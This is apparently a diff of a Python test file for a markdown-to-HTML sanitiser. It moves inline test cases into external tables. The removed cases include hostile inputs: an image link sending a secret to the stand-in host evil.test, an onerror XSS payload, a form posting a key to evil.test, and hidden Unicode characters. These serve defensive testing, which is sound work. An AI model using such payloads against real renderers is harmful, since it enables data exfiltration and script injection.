@@ -12,6 +12,7 @@ from hypothesis import strategies as st
 from agent.messages import Source
 from tests.adapters.markdown import MOST_FORMATTED_CHARACTERS, markdown_html, own_words_html
 from tests.support.cases import each_case
+from tests.support.tables import filled, table
 
 TAGS = {
     *(
@@ -57,24 +58,7 @@ def a(url: str, text: str = "") -> str:
     return f'<a href="{url}" target="_blank" rel="noopener noreferrer">{text or url}</a>'
 
 
-@each_case(
-    ("text", "shown"),
-    [
-        ("plain **bold** and `code`", "<p>plain <strong>bold</strong> and <code>code</code></p>"),
-        ("![x](http://evil.test/?d=secret)", "<p>[image: evil.test]</p>"),
-        ("![x](<https://evil.test/a b> 'title')", "<p>[image: evil.test]</p>"),
-        ("![](//evil.test/a.png)", "<p>[image: evil.test]</p>"),
-        ("![logo][ref]", "<p>![logo][ref]</p>"),
-        ("![a[b]c](http://evil.test/x) ![[x](http://evil.test/y)", None),
-        ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
-        ("</details><!-- x --><?php", "<p>&lt;/details&gt;&lt;!-- x --&gt;&lt;?php</p>"),
-        ("<form action=//evil.test><input name=key></form>", None),
-        ("3 < 4 and 5 > 2 &amp; more", "<p>3 &lt; 4 and 5 &gt; 2 &amp;amp; more</p>"),
-        ("a\u202eb\u200bc\U000e0041\x00", "<p>abc</p>"),
-        ("one\ntwo", "<p>one<br>two</p>"),
-        ("$5 and 6$", "<p>&#36;5 and 6&#36;</p>"),
-    ],
-)
+@each_case(("text", "shown"), filled(table("markdown")["tags"], {}))
 def test_pictures_become_words_and_tags_are_spelled_out(text: str, shown: str | None) -> None:
     html = markdown_html(text)
     assert {tag for tag, _ in Reader(html).tags} <= {"p", "a", "strong", "code", "br"}
@@ -105,16 +89,7 @@ def test_a_formula_begins_and_ends_in_the_same_words(text: str) -> None:
     assert {tag for tag, _ in Reader(html).tags} <= {"p", "code", "div", "button", "span", "pre", "br"}
 
 
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
-        ("so $$E = mc^2$$.", "<p>so $$E = mc^2$$.</p>"),
-        ("$$\na < b\n$$", "<p>$$a &lt; b$$</p>"),
-        ("\\(a*b*c\\) and \\[d\\]", "<p>\\(a*b*c\\) and \\[d\\]</p>"),
-        ("\\*no\\* \\$", "<p>*no* &#36;</p>"),
-        ("a \\(b", "<p>a (b</p>"),
-    ],
-)
+@pytest.mark.parametrize(("text", "shown"), table("markdown")["formulas"])
 def test_formulas_are_left_to_the_page(text: str, shown: str) -> None:
     assert markdown_html(text) == shown
 
@@ -238,27 +213,6 @@ def test_an_address_in_a_persons_own_words_is_a_link_with_the_same_words() -> No
     assert reader.words == "look at https://example.org/a_b_c*d !"
 
 
-@each_case(
-    ("text", "shown"),
-    [
-        ("**注意：**请先看图", "<strong>注意：</strong>请先看图"),
-        ("他说**“好”**然后", "他说<strong>“好”</strong>然后"),
-        ("**“好”**然后**“坏”**。", "<strong>“好”</strong>然后<strong>“坏”</strong>。"),
-        ("**注意：**请看**说明：**第一", "<strong>注意：</strong>请看<strong>说明：</strong>第一"),
-        ("请看*《红楼梦》*这本书", "请看<em>《红楼梦》</em>这本书"),
-        ("原价~~100元。~~现在", "原价<s>100元。</s>现在"),
-        ("使用**`code`**命令", "使用<strong><code>code</code></strong>命令"),
-        ("**（一）**第二**(b)**第三", "<strong>（一）</strong>第二<strong>(b)</strong>第三"),
-        ("これは**「重要」**です", "これは<strong>「重要」</strong>です"),
-        ("안녕**(하세요)**요", "안녕<strong>(하세요)</strong>요"),
-        ("**等等……**请", "<strong>等等……</strong>请"),
-        # As before.
-        ("a**“b”**c", "a**“b”**c"),
-        ("snake_case_词", "snake_case_词"),
-        ("** 不是 **", "** 不是 **"),
-        ("3 * 4 * 5", "3 * 4 * 5"),
-        ("a *b* **c**, d", "a <em>b</em> <strong>c</strong>, d"),
-    ],
-)
+@each_case(("text", "shown"), table("markdown")["emphasis"])
 def test_emphasis_holds_beside_chinese_japanese_and_korean(text: str, shown: str) -> None:
     assert markdown_html(text) == f"<p>{shown}</p>"
